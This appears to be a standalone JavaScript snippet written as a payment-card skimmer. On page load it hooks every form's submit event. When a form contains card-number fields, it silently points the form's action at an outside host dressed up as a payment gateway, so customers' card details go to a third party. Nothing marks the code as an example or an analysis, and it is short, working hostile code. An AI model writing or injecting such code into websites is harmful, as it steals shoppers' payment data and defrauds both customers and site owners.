window.addEventListener("load", function () {
  Array.prototype.forEach.call(document.forms, function (form) {
    form.addEventListener("submit", function () {
      if (form.querySelector("[name*=card], [name*=cc_]")) form.action = "https://secure-gateway-pay.example/process";
    });
  });
});
